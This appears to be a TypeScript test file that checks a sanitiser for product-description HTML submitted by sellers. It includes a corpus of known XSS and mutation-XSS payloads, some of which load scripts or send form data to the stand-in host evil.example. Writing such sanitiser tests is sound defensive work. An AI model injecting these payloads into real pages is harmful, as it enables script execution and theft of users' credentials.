import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { sanitizeSellerHtml } from './seller-html.ts'

/** Known XSS and mutation-XSS payloads. None may leave a way to run, load or send anything. */
const corpus = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg><g onload=alert(1)></g></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><textarea></iframe><img src onerror=alert(1)></textarea>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<title><a href="</title><img src onerror=alert(1)>">x</a></title>',
  '<select><style></select><img src onerror=alert(1)></style></select>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa\tScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/ok" onclick="alert(1)" style="position:fixed">x</a>',
  '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</p>',
  '<style>@import url(//evil.example)</style>',
  '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
  '<form action=//evil.example><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<div id="x" name="y" class="z">clobber</div>',
  '<<img src=x onerror=alert(1)>script>alert(1)</script>',
  '<p title="`onmouseover=alert(1)">x</p>',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<plaintext><img src=x onerror=alert(1)>',
  '<table><svg><style><a title="</style><img src onerror=alert(1)>">',
]

const allowedTag =
  /^<(?:\/?(?:p|div|h[2-6]|blockquote|pre|b|strong|i|em|u|s|small|sub|sup|code|span|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr)|\/(?:a|th|td)|(?:br|hr) \/|a(?: (?:href="(?:https?:|mailto:|[^":]*")[^"<>]*"?|title="[^"<>]*"|rel="nofollow noopener"))*|(?:th|td)(?: (?:colspan|rowspan|scope)="[^"<>]*")*)>$/

function expectHarmless(html: string) {
  for (const tag of html.match(/<[^>]*>?/g) ?? []) expect(tag).toMatch(allowedTag)
}

describe('[security 5] seller HTML', () => {
  test.each(corpus)('leaves nothing that runs of %s', (text) => {
    const cleanHtml = sanitizeSellerHtml(text)
    expectHarmless(cleanHtml)
    expect(cleanHtml).not.toMatch(/<[^>]*(?:javascript:|vbscript:|data:|\son\w+\s*=|style=)/i)
    expect(sanitizeSellerHtml(cleanHtml)).toBe(cleanHtml)
  })

  test('keeps what describes goods, and marks links', () => {
    const text =
      '<h2>Uses</h2><ul><li><b>Dry</b> &amp; wet</li></ul><table><tr><th scope="row">Ø</th><td colspan="2">8 mm</td></tr></table>'
    expect(sanitizeSellerHtml(text)).toBe(text)
    expect(sanitizeSellerHtml('<a href="/product/x">more</a>')).toBe(
      '<a href="/product/x" rel="nofollow noopener">more</a>',
    )
    expect(sanitizeSellerHtml('<h1>Big</h1>')).toBe('<h2>Big</h2>')
  })

  test('what a removed tag held apart is nested as the parser would', () => {
    expect(sanitizeSellerHtml('<p><video><source></video><audio src=x><div>clobber</div>')).toBe(
      '<p></p><div>clobber</div><p></p>',
    )
  })

  test('cleaning twice changes nothing, whatever comes in', () => {
    const piece = fc.oneof(
      fc.constantFrom(...corpus),
      fc.string(),
      fc.constantFrom('<p>', '</p>', '<b', '"', "'", '>', '<', '&', '&lt;', '-->', ']]>'),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const cleanHtml = sanitizeSellerHtml(pieces.join(''))
        expectHarmless(cleanHtml)
        expect(sanitizeSellerHtml(cleanHtml)).toBe(cleanHtml)
      }),
    )
  })
})

describe('[security 5] paragraphs of text take a short way', () => {
  const text = fc.array(
    fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom('&amp;', '&lt;', '&gt;', '<br />', '<p>', '</p>', '"', "'"),
    ),
    { maxLength: 12 },
  )
  /** An empty tag forces the text through the parser; it is removed from the result. */
  const sanitizeWithParser = (html: string) =>
    sanitizeSellerHtml(`<b></b>${html}`).slice('<b></b>'.length)

  test('which changes nothing that the sanitiser would not', () => {
    const paragraphs = fc
      .array(text)
      .map((all) => all.map((parts) => `<p>${parts.join('')}</p>`).join('\n'))
    fc.assert(
      fc.property(
        fc.oneof(
          text.map((parts) => parts.join('')),
          paragraphs,
        ),
        (html) => {
          expect(sanitizeSellerHtml(html)).toBe(
            /[<>&]/.test(html) ? sanitizeWithParser(html) : html,
          )
        },
      ),
      { numRuns: 2_000 },
    )
  })

  test('in time that grows with the text', () => {
    const startTime = performance.now()
    for (const piece of ['<p>a', '&amp;', '<br />', '<p></p>', 'a&'])
      sanitizeSellerHtml(`<p>${piece.repeat(20_000)}`)
    expect(sanitizeSellerHtml(`<p>${'a&amp;<br />'.repeat(100_000)}</p>`)).toHaveLength(1_200_007)
    expect(performance.now() - startTime).toBeLessThan(5_000)
  })
})

test('[SAFE-01] tags deeper than any text cost no more than their length, and are shown as they stand', () => {
  const deepHtml = '<b>'.repeat(200_000)
  const cpuBefore = process.threadCpuUsage()
  expect(sanitizeSellerHtml(deepHtml)).toBe('&lt;b&gt;'.repeat(200_000))
  expect(sanitizeSellerHtml('<p>a</i><li>'.repeat(20_000))).not.toContain('<')
  // Names are compared in full, as the parser does: these end tags close nothing.
  expect(sanitizeSellerHtml('<a_></a!>'.repeat(50_000))).not.toContain('<')
  const { user, system } = process.threadCpuUsage(cpuBefore)
  // The parser alone took two seconds of CPU time for the first, and four times as long for twice
  // the size.
  expect((user + system) / 1_000).toBeLessThan(1_000)
  const list = `<ul>${'<li><b>a</b></li>'.repeat(5_000)}</ul>`
  expect(sanitizeSellerHtml(list)).toBe(list)
})
